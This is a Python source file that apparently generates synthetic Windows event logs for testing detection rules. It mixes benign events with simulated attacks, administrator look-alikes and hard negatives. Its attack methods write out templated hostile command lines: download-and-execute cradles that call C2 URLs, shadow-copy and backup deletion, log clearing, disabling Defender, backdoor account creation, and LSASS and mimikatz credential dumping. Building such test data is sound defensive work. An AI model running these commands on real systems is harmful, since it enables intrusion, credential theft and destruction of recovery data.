# ruff: noqa: E501  (scenarios: Windows command lines are long)
"""The Windows event-log generator: a fleet's benign events (winevt_events) plus, at a low
rate, attacker-like stories of the kind Windows detection rules look for (living-off-the-land
binaries, encoded PowerShell, persistence, credential dumping, shadow-copy deletion, recon),
administrators' look-alikes of them (false positives a rule may raise) and benign events that
merely mention such tools (hard negatives).

There is no oracle for third-party rule sets, so no line is labelled: every line's label set
is empty, and `write_corpus` writes an empty labels file when asked for one.
"""

from __future__ import annotations

import base64

from retrohunt.corpus.base import Line, basename
from retrohunt.corpus.winevt_catalogue import (
    C2_URLS,
    DLL_NAMES,
    DOWNLOAD_CRADLES,
    DROP_NAMES,
    ODD_SERVICE_PATHS,
    RECON_CMDS,
    RUN_KEY_NAMES,
    STAGING,
    SUSPICIOUS_SCRIPTS,
    SYSTEM32,
)
from retrohunt.corpus.winevt_events import Account, Host, Proc, WinEvtEvents

DEFAULT_MALICIOUS_RATE = 0.0005
"""Share of attack and look-alike lines by default (hard negatives add a quarter of it)."""

_PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CMD = r"C:\Windows\System32\cmd.exe"
_LURE_PARENTS = ("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE", "wscript.exe", "explorer.exe")


class WinEvtGenerator(WinEvtEvents):
    """Windows events with attacker-like scenarios, look-alikes and hard negatives."""

    # Average lines of a scenario of each kind (measured on large corpora), so that
    # `malicious_rate` is the share of scenario lines.
    attack_lines = 3.0
    false_positive_lines = 1.45
    hard_lines = 1.0
    ATTACK_SHARE = 0.6
    HARD_SHARE = 0.25  # hard negatives: a quarter of `malicious_rate` on top of it

    def __init__(self, seed: int | str, malicious_rate: float = DEFAULT_MALICIOUS_RATE) -> None:
        super().__init__(seed, malicious_rate)
        self.schedule(
            [(1.0, self.benign)],
            attacks=[
                self._atk_certutil,
                self._atk_rundll32,
                self._atk_encoded_powershell,
                self._atk_encoded_powershell,
                self._atk_regsvr32,
                self._atk_mshta,
                self._atk_schtasks,
                self._atk_shadow_copies,
                self._atk_recon,
                self._atk_add_user,
                self._atk_lsass_dump,
                self._atk_service,
                self._atk_run_key,
                self._atk_wmic,
                self._atk_bitsadmin,
                self._atk_defender,
                self._atk_clear_logs,
                self._atk_credential_tool,
                self._atk_startup_folder,
                self._atk_script_block,
                self._atk_sideload,
            ],
            false_positives=[
                self._fp_managed_encoded,
                self._fp_admin_recon,
                self._fp_installer_task,
                self._fp_backup_shadows,
                self._fp_admin_dump,
                self._fp_certutil_hash,
                self._fp_printer,
            ],
            hard=[
                self._hard_names_in_arguments,
                self._hard_defender_scan,
                self._hard_internal_download,
                self._hard_onedrive_run_key,
            ],
        )
        self.p_scenario = self.p_false_positive + malicious_rate * self.HARD_SHARE / self.hard_lines

    # -- building blocks ---------------------------------------------------------------------

    def victim(self) -> tuple[Host, Account]:
        host = self.host("ws" if self.random() < 0.8 else None)
        return host, self.account(host, "user")

    def staged(self, host: Host, account: Account, name: str | None = None) -> str:
        folder = self.fill_in(self.pick(STAGING), host, account)
        return f"{folder}\\{self.fill_in(name or self.pick(DROP_NAMES), host)}"

    def url(self, host: Host) -> str:
        return self.fill_in(self.pick(C2_URLS), host)

    def run(
        self,
        host: Host,
        image: str,
        cmd: str,
        parent: Proc,
        account: Account,
        *,
        trap: float = 0.3,
        original: str | None = None,
        integrity: str | None = None,
    ) -> tuple[Line, Proc]:
        """A process creation (Sysmon 1, or Security 4688 on some hosts), sometimes with one
        character of the command line escaped."""
        if host.role == "srv" and self.random() < 0.3:
            line = self.security_process(host, image, cmd, parent, account, integrity)
        else:
            line = self.sysmon_process(
                host, image, cmd, parent, account, original=original, integrity=integrity
            )
        if self.random() < trap:
            line = self.trap(line, cmd if self.random() < 0.8 else image)
        assert self.last_proc is not None
        return (line, ()), self.last_proc

    def shell(
        self, host: Host, account: Account, parent_key: str = "explorer.exe", then: str = ""
    ) -> tuple[Line, Proc]:
        """The cmd.exe an attacker works in: interactive, or running `then`."""
        parent = self.parent_proc(host, parent_key, account)
        if then and self.random() < 0.6:
            cmd = self.pick(("cmd.exe /c ", "C:\\Windows\\system32\\cmd.exe /Q /c ", "cmd /c "))
            cmd += then if self.random() < 0.5 else f'"{then}"'
        else:
            cmd = '"C:\\Windows\\system32\\cmd.exe" '
        return self.run(host, _CMD, cmd, parent, account, trap=0.0)

    def c2(self, host: Host, proc: Proc, url: str) -> list[Line]:
        """The DNS query and the connection a download makes."""
        name = url.split("://", 1)[-1].split("/", 1)[0].split(":", 1)[0]
        lines: list[Line] = []
        dest = name if name[0].isdigit() else self.public4()
        if not name[0].isdigit():
            lines.append((self.dns(host, proc, name, f"::ffff:{dest};"), ()))
        port = 443 if url.startswith("https") else (8080 if ":8080" in url else 80)
        lines.append((self.network(host, proc, dest, port, name), ()))
        return lines

    # -- attacks -----------------------------------------------------------------------------

    def _atk_certutil(self) -> list[Line]:
        host, account = self.victim()
        url = self.url(host)
        out = self.staged(host, account)
        cmd = self.pick((
            f"certutil.exe -urlcache -split -f {url} {out}",
            f"certutil -urlcache -f {url} {out}",
            f"certutil.exe  -verifyctl -split -f {url}",
            f"certutil -decode {out}.txt {out}",
        ))  # fmt: skip
        first, shell = self.shell(host, account, self.pick(_LURE_PARENTS), cmd)
        line, proc = self.run(host, SYSTEM32 + "certutil.exe", cmd, shell, account)
        lines = [first, line]
        if "-decode" not in cmd:
            lines += self.c2(host, proc, url)
        lines.append((self.file_create(host, proc, out), ()))
        return lines

    def _atk_rundll32(self) -> list[Line]:
        host, account = self.victim()
        parent = self.parent_proc(
            host, self.pick(("explorer.exe", "wscript.exe", "cmd.exe")), account
        )
        dll = self.staged(host, account, self.pick(DLL_NAMES))
        cmd = self.pick((
            f"rundll32.exe {dll},DllRegisterServer",
            f'"C:\\Windows\\system32\\rundll32.exe" "{dll}",#1',
            f"rundll32.exe {dll},Start",
            f"rundll32 {dll} StartW",
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:' + self.url(host) + '")',
        ))  # fmt: skip
        line, proc = self.run(host, SYSTEM32 + "rundll32.exe", cmd, parent, account)
        lines = [line]
        if self.random() < 0.6:
            lines.append((self.image_load(host, proc, dll, signed=False), ()))
        if self.random() < 0.5:
            lines.append((self.network(host, proc, self.public4(), 443), ()))
        return lines

    def encoded(self, script: str) -> str:
        return base64.b64encode(script.encode("utf-16-le")).decode("ascii")

    def _atk_encoded_powershell(self) -> list[Line]:
        host, account = self.victim()
        parent = self.parent_proc(host, self.pick((*_LURE_PARENTS, "cmd.exe")), account)
        url = self.url(host)
        script = self.pick(DOWNLOAD_CRADLES).replace("{URL}", url)
        flags = self.pick((
            "-nop -w hidden -enc", "-NoP -NonI -W Hidden -Exec Bypass -EncodedCommand",
            "-noprofile -windowstyle hidden -e", "-ep bypass -ec",
        ))  # fmt: skip
        image = _PS if self.random() < 0.85 else r"C:\Program Files\PowerShell\7\pwsh.exe"
        cmd = f"{basename(image)} {flags} {self.encoded(script)}"
        if self.random() < 0.3:  # not encoded: the cradle in the clear
            cmd = f'{basename(image)} -nop -w hidden -c "{script}"'
        line, proc = self.run(host, image, cmd, parent, account)
        lines = [line, (self.script_block(host, proc, script), ())]
        lines += self.c2(host, proc, url)
        return lines

    def _atk_regsvr32(self) -> list[Line]:
        host, account = self.victim()
        parent = self.parent_proc(
            host, self.pick(("cmd.exe", "WINWORD.EXE", "wscript.exe")), account
        )
        url = self.fill_in(
            self.pick(("https://{X}.trycloudflare.com/sc.sct", "http://45.137.{N}.{N}/file.sct")),
            host,
        )
        cmd = self.pick((
            f"regsvr32 /s /n /u /i:{url} scrobj.dll",
            f"regsvr32.exe /u /n /s /i:{url} scrobj.dll",
            f"regsvr32 /s {self.staged(host, account, self.pick(DLL_NAMES))}",
        ))  # fmt: skip
        line, proc = self.run(host, SYSTEM32 + "regsvr32.exe", cmd, parent, account)
        return [line, *self.c2(host, proc, url)] if "/i:" in cmd else [line]

    def _atk_mshta(self) -> list[Line]:
        host, account = self.victim()
        parent = self.parent_proc(
            host, self.pick(("explorer.exe", "OUTLOOK.EXE", "cmd.exe")), account
        )
        url = self.fill_in("http://45.137.{N}.{N}/s.hta", host)
        cmd = self.pick((
            f"mshta.exe {url}",
            f'"C:\\Windows\\System32\\mshta.exe" "{url}"',
            'mshta vbscript:CreateObject("Wscript.Shell").Run("powershell -nop -w hidden -c iwr '
            + url + ' | iex",0,true)(window.close)',
        ))  # fmt: skip
        line, proc = self.run(host, SYSTEM32 + "mshta.exe", cmd, parent, account)
        return [line, *self.c2(host, proc, url)]

    def _atk_schtasks(self) -> list[Line]:
        host, account = self.victim()
        payload = self.staged(host, account)
        name = self.pick(
            (
                "MicrosoftEdgeUpdateTaskCore",
                "\\Microsoft\\Windows\\Maintenance\\WinSAT",
                "OneDrive Reporting Task-{X}",
                "SystemHealthCheck",
            )
        )
        name = self.fill_in(name, host)
        cmd = self.pick((
            f'schtasks /create /sc minute /mo 15 /tn "{name}" /tr "{payload}" /f',
            f'schtasks.exe /Create /SC ONLOGON /TN "{name}" /TR "powershell.exe -w hidden -ep bypass -f {payload}.ps1" /RU SYSTEM /F',
            f'schtasks /create /s 10.20.0.{self.bits(7)} /ru SYSTEM /sc once /st 00:00 /tn "{name}" /tr "cmd /c {payload}"',
        ))  # fmt: skip
        first, shell = self.shell(host, account, then=cmd)
        line, _ = self.run(host, SYSTEM32 + "schtasks.exe", cmd, shell, account)
        task = f"C:\\Windows\\System32\\Tasks\\{name.lstrip(chr(92))}"
        return [
            first,
            line,
            (
                self.file_create(
                    host, self.parent_proc(host, "svchost-schedule", host.system), task
                ),
                (),
            ),
        ]

    def _atk_shadow_copies(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        first, shell = self.shell(host, account)
        lines = [first]
        steps = [
            (SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
            (SYSTEM32 + "wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive"),
            (SYSTEM32 + "bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
            (
                SYSTEM32 + "bcdedit.exe",
                "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
            ),
            (SYSTEM32 + "wbadmin.exe", "wbadmin delete catalog -quiet"),
            (
                SYSTEM32 + "vssadmin.exe",
                "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB",
            ),
        ]
        start = int(self.random() * 3)
        for image, cmd in steps[start : start + 2 + self.bits(1)]:
            line, _ = self.run(host, image, cmd, shell, account, integrity="High")
            lines.append(line)
        return lines

    def _atk_recon(self) -> list[Line]:
        host, account = self.victim()
        first, shell = self.shell(
            host, account, self.pick(("explorer.exe", "WmiPrvSE.exe", "w3wp.exe"))
        )
        lines = [first]
        for _ in range(2 + self.bits(2)):
            exe, cmd = RECON_CMDS[int(self.random() * len(RECON_CMDS))]
            line, proc = self.run(host, SYSTEM32 + exe, cmd, shell, account, trap=0.2)
            lines.append(line)
            if exe == "net.exe":
                child, _ = self.run(
                    host,
                    SYSTEM32 + "net1.exe",
                    cmd.replace("net ", "C:\\Windows\\system32\\net1  ", 1),
                    proc,
                    account,
                    trap=0.0,
                )
                lines.append(child)
        return lines

    def _atk_add_user(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        first, shell = self.shell(host, account)
        name = self.pick(("support", "backupadm", "helpdesk$", "Adm1n", "sqlsvc"))
        password = self.pick(("P@ssw0rd!", "Welcome2024!", "Qwerty123$", "Summer#24"))
        lines = [first]
        for cmd in (
            f"net user {name} {password} /add",
            f"net localgroup administrators {name} /add",
        ):
            if self.random() < 0.3:
                cmd = cmd.replace("net ", "net1 ", 1)
                image = SYSTEM32 + "net1.exe"
            else:
                image = SYSTEM32 + "net.exe"
            line, _ = self.run(host, image, cmd, shell, account, integrity="High")
            lines.append(line)
        return lines

    def _atk_lsass_dump(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        out = self.staged(host, account, "ls{X}.dmp")
        r = self.random()
        if r < 0.4:
            image = self.staged(
                host, account, self.pick(("procdump64.exe", "pd64.exe", "dbgsvc.exe"))
            )
            cmd = f"{basename(image)} -accepteula -ma lsass.exe {out}"
            original = "procdump"
        elif r < 0.8:
            image = SYSTEM32 + "rundll32.exe"
            cmd = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {host.lsass_pid} {out} full"
            original = None
        else:
            image = SYSTEM32 + "rdrleakdiag.exe"
            cmd = f"rdrleakdiag.exe /p {host.lsass_pid} /o {out.rsplit(chr(92), 1)[0]} /fullmemdmp /wait 1"
            original = None
        first, shell = self.shell(host, account, then=cmd)
        line, proc = self.run(host, image, cmd, shell, account, original=original, integrity="High")
        trace = (
            f"C:\\Windows\\SYSTEM32\\ntdll.dll+{self.hex(20)}|C:\\Windows\\System32\\KERNELBASE.dll+{self.hex(16)}|"
            f"C:\\Windows\\System32\\dbgcore.DLL+{self.hex(16)}|C:\\Windows\\System32\\dbghelp.dll+{self.hex(16)}|"
            f"{image}+{self.hex(16)}"
        )
        access = self.process_access(
            host,
            proc,
            self.lsass(host),
            self.pick(("0x1fffff", "0x1010", "0x1410", "0x1438")),
            trace,
        )
        return [first, line, (access, ()), (self.file_create(host, proc, out), ())]

    def _atk_service(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        name = self.pick(("{X}", "WinUpdateSvc", "PSEXESVC", "BTOBTO", "svc{N}", "MpsSvcHelper"))
        name = self.fill_in(name, host)
        path = self.fill_in(self.pick(ODD_SERVICE_PATHS), host).replace("{URL}", self.url(host))
        lines: list[Line] = []
        if self.random() < 0.5:
            cmd = f'sc.exe create {name} binPath= "{path}" start= auto DisplayName= "{name}"'
            first, shell = self.shell(host, account, then=cmd)
            created, _ = self.run(host, SYSTEM32 + "sc.exe", cmd, shell, account, integrity="High")
            lines += [first, created]
        start = self.pick(("auto start", "demand start"))
        text = self.service(
            host, name, path, "user mode service", start, "LocalSystem", account.sid
        )
        if self.random() < 0.3:
            text = self.trap(text, path)
        lines.append((text, ()))
        return lines

    def _atk_run_key(self) -> list[Line]:
        host, account = self.victim()
        payload = self.staged(host, account)
        value = self.pick(RUN_KEY_NAMES)
        cmd = f'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {value} /t REG_SZ /d "{payload}" /f'
        first, shell = self.shell(host, account, self.pick(("explorer.exe", "wscript.exe")), cmd)
        line, proc = self.run(host, SYSTEM32 + "reg.exe", cmd, shell, account)
        target = f"HKU\\{account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{value}"
        if self.random() < 0.3:
            target = target.replace("\\Run\\", "\\RunOnce\\")
        return [
            first,
            (self.file_create(host, shell, payload), ()),
            line,
            (self.registry(host, proc, target, payload), ()),
        ]

    def _atk_wmic(self) -> list[Line]:
        host, account = self.victim()
        url = self.url(host)
        cmd = self.pick((
            f'wmic /node:10.20.{self.bits(8)}.{self.bits(8)} process call create "cmd.exe /c {self.staged(host, account)}"',
            f'wmic process call create "powershell -nop -w hidden -c iwr {url} -o C:\\Users\\Public\\a.exe"',
            "wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /format:list",
            f"wmic os get /format:\"{url}\"",
        ))  # fmt: skip
        first, shell = self.shell(host, account, then=cmd)
        line, _ = self.run(host, SYSTEM32 + "wbem\\WMIC.exe", cmd, shell, account)
        return [first, line]

    def _atk_bitsadmin(self) -> list[Line]:
        host, account = self.victim()
        url = self.url(host)
        out = self.staged(host, account)
        cmd = f"bitsadmin /transfer job{self.bits(8)} /download /priority high {url} {out}"
        first, shell = self.shell(host, account, then=cmd)
        line, _ = self.run(host, SYSTEM32 + "bitsadmin.exe", cmd, shell, account)
        svchost = self.parent_proc(host, "svchost.exe", host.system)
        return [
            first,
            line,
            *self.c2(host, svchost, url),
            (self.file_create(host, svchost, out), ()),
        ]

    def _atk_defender(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        parent = self.parent_proc(host, "cmd.exe", account)
        script = self.pick((
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "Add-MpPreference -ExclusionPath C:\\Users\\Public",
            "Set-MpPreference -DisableBehaviorMonitoring $true -DisableScriptScanning $true",
        ))  # fmt: skip
        line, proc = self.run(
            host, _PS, f'powershell.exe -c "{script}"', parent, account, integrity="High"
        )
        lines = [line, (self.script_block(host, proc, script), ())]
        if self.random() < 0.5:
            cmd = 'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f'
            reg, reg_proc = self.run(
                host, SYSTEM32 + "reg.exe", cmd, parent, account, integrity="High"
            )
            target = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware"
            lines += [reg, (self.registry(host, reg_proc, target, "DWORD (0x00000001)"), ())]
        return lines

    def _atk_clear_logs(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        first, shell = self.shell(host, account)
        lines = [first]
        for log in self.choose(
            (("Security",), ("System", "Security"), ("Application", "Windows PowerShell"))
        ):
            cmd = f"wevtutil cl {log}" if " " not in log else f'wevtutil.exe cl "{log}"'
            line, _ = self.run(
                host, SYSTEM32 + "wevtutil.exe", cmd, shell, account, integrity="High"
            )
            lines.append(line)
        return lines

    def _atk_credential_tool(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        image = self.staged(host, account, self.pick(("m.exe", "mimi64.exe", "svc.exe")))
        cmd = self.pick((
            f'{basename(image)} "privilege::debug" "sekurlsa::logonpasswords" exit',
            f'{image} privilege::debug lsadump::sam exit',
            f'{basename(image)} "lsadump::dcsync /domain:corp.example /user:krbtgt" exit',
        ))  # fmt: skip
        first, shell = self.shell(host, account, then=cmd)
        line, proc = self.run(
            host, image, cmd, shell, account, original="mimikatz.exe", integrity="High"
        )
        access = self.process_access(host, proc, self.lsass(host), "0x1010")
        return [first, line, (access, ())]

    def _atk_startup_folder(self) -> list[Line]:
        host, account = self.victim()
        proc = self.parent_proc(
            host, self.pick(("wscript.exe", "powershell.exe", "WINWORD.EXE")), account
        )
        name = self.pick(("update.lnk", "OneDrive.vbs", "svchost.bat", "Teams.js"))
        path = f"C:\\Users\\{account.profile}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{name}"
        if self.random() < 0.2:
            path = f"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\{name}"
        return [(self.file_create(host, proc, path), ())]

    def _atk_script_block(self) -> list[Line]:
        host, account = self.victim()
        proc = self.powershell_proc(host, account)
        text = self.pick(SUSPICIOUS_SCRIPTS).replace("{IP}", self.public4())
        return [(self.script_block(host, proc, text), ())]

    def _atk_sideload(self) -> list[Line]:
        host, account = self.victim()
        folder = f"C:\\Users\\{account.profile}\\AppData\\Local\\Temp\\{self.hex(16)}"
        image = (
            f"{folder}\\{self.pick(('OneDriveStandaloneUpdater.exe', 'Teams.exe', 'WerFault.exe'))}"
        )
        parent = self.parent_proc(host, "explorer.exe", account)
        line, proc = self.run(host, image, image, parent, account, trap=0.1)
        dll = (
            f"{folder}\\{self.pick(('version.dll', 'dbghelp.dll', 'wtsapi32.dll', 'userenv.dll'))}"
        )
        return [
            line,
            (self.image_load(host, proc, dll, signed=False), ()),
            (self.network(host, proc, self.public4(), 443), ()),
        ]

    # -- administrators' look-alikes (false positives) ---------------------------------------

    def _fp_managed_encoded(self) -> list[Line]:
        host = self.host()
        parent = self.parent_proc(
            host, self.pick(("CcmExec.exe", "AgentExecutor.exe")), host.system
        )
        script = self.pick((
            "Get-Service -Name CcmExec | Select-Object Status",
            "if (Test-Path 'HKLM:\\SOFTWARE\\Corp\\Baseline') { exit 0 } else { exit 1 }",
            "[Environment]::OSVersion.Version.ToString()",
        ))  # fmt: skip
        cmd = f"powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {self.encoded(script)}"
        line, proc = self.run(host, _PS, cmd, parent, host.system, trap=0.0)
        return [line, (self.script_block(host, proc, script), ())]

    def _fp_admin_recon(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        exe, cmd = self.choose((
            ("whoami.exe", "whoami"), ("net.exe", f"net user {self.user_of(host).name} /domain"),
            ("ipconfig.exe", "ipconfig /all"), ("net.exe", "net use Z: \\\\fs01\\Teams /persistent:yes"),
        ))  # fmt: skip
        first, shell = self.shell(host, account, then=cmd)
        line, _ = self.run(host, SYSTEM32 + exe, cmd, shell, account, trap=0.0)
        return [first, line] if self.random() < 0.3 else [line]

    def _fp_installer_task(self) -> list[Line]:
        host = self.host()
        parent = self.parent_proc(host, "msiexec.exe", host.system)
        guid = self.upper_guid()
        cmd = self.pick((
            f'schtasks.exe /Create /TN "GoogleUpdateTaskMachineUA{guid}" /XML "C:\\Windows\\TEMP\\gup{self.hex(16)}.xml" /F',
            f'"C:\\Windows\\system32\\schtasks.exe" /create /tn "Adobe Acrobat Update Task" /xml "C:\\Windows\\TEMP\\AdobeARM{self.hex(16)}.xml" /f',
        ))  # fmt: skip
        line, _ = self.run(host, SYSTEM32 + "schtasks.exe", cmd, parent, host.system, trap=0.0)
        return [line]

    def _fp_backup_shadows(self) -> list[Line]:
        host = self.host("srv")
        parent = self.parent_proc(host, "services.exe", host.system)
        cmd = self.pick(
            ("vssadmin list shadows", "vssadmin create shadow /for=C:", "vssadmin list writers")
        )
        line, _ = self.run(host, SYSTEM32 + "vssadmin.exe", cmd, parent, host.system, trap=0.0)
        return [line]

    def _fp_admin_dump(self) -> list[Line]:
        host = self.host("srv")
        account = self.account(host, "admin")
        image = "C:\\Tools\\Sysinternals\\procdump64.exe"
        cmd = f"procdump64.exe -accepteula -ma w3wp.exe E:\\Dumps\\w3wp_{self.bits(12)}.dmp"
        first, shell = self.shell(host, account, then=cmd)
        line, _ = self.run(host, image, cmd, shell, account, trap=0.0, original="procdump")
        return [first, line]

    def _fp_certutil_hash(self) -> list[Line]:
        host = self.host()
        account = self.account(host, "admin")
        cmd = self.pick((
            f"certutil -hashfile C:\\Users\\{account.profile}\\Downloads\\setup.exe SHA256",
            "certutil -verify -urlfetch C:\\Temp\\corp-root.cer",
            "certutil -store My",
        ))  # fmt: skip
        first, shell = self.shell(host, account, then=cmd)
        line, _ = self.run(host, SYSTEM32 + "certutil.exe", cmd, shell, account, trap=0.0)
        return [first, line]

    def _fp_printer(self) -> list[Line]:
        host = self.host("ws")
        account = self.account(host, "user")
        parent = self.parent_proc(host, "explorer.exe", account)
        cmd = f"rundll32.exe printui.dll,PrintUIEntry /in /n \\\\print01.corp.example\\HP-Floor{self.bits(3)}"
        line, _ = self.run(host, SYSTEM32 + "rundll32.exe", cmd, parent, account, trap=0.0)
        return [line]

    # -- hard negatives ----------------------------------------------------------------------

    def _hard_names_in_arguments(self) -> list[Line]:
        host = self.host("ws")
        account = self.account(host, "user")
        parent = self.parent_proc(host, "explorer.exe", account)
        image, cmd = self.choose((
            (r"C:\Windows\System32\notepad.exe", f'"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{account.profile}\\Documents\\certutil-urlcache notes.txt'),
            (r"C:\Program Files\Google\Chrome\Application\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument https://www.bing.com/search?q=mimikatz+sekurlsa+detection'),
            (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{account.profile}\\Documents\\vssadmin delete shadows - runbook.docx"'),
        ))  # fmt: skip
        line, _ = self.run(host, image, cmd, parent, account, trap=0.0)
        return [line]

    def _hard_defender_scan(self) -> list[Line]:
        host = self.host()
        parent = self.parent_proc(host, "MsMpEng.exe", host.system)
        image = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24060.7-0\MpCmdRun.exe"
        cmd = f'"{image}" -Scan -ScanType 3 -File "C:\\Users\\{self.user_of(host).profile}\\Downloads\\mimikatz_trunk.zip" -DisableRemediation'
        line, _ = self.run(host, image, cmd, parent, host.system, trap=0.0)
        return [line]

    def _hard_internal_download(self) -> list[Line]:
        host = self.host()
        proc = self.powershell_proc(host, host.system)
        text = "Invoke-WebRequest -Uri 'https://sccm01.corp.example/ccm_system/request' -UseDefaultCredentials -OutFile $env:TEMP\\policy.xml"
        return [(self.script_block(host, proc, text), ())]

    def _hard_onedrive_run_key(self) -> list[Line]:
        host = self.host("ws")
        account = self.account(host, "user")
        image = f"C:\\Users\\{account.profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
        proc = Proc(self.guid(host), self.pid(), image, image, account)
        target = f"HKU\\{account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive"
        return [(self.registry(host, proc, target, f'"{image}" /background'), ())]
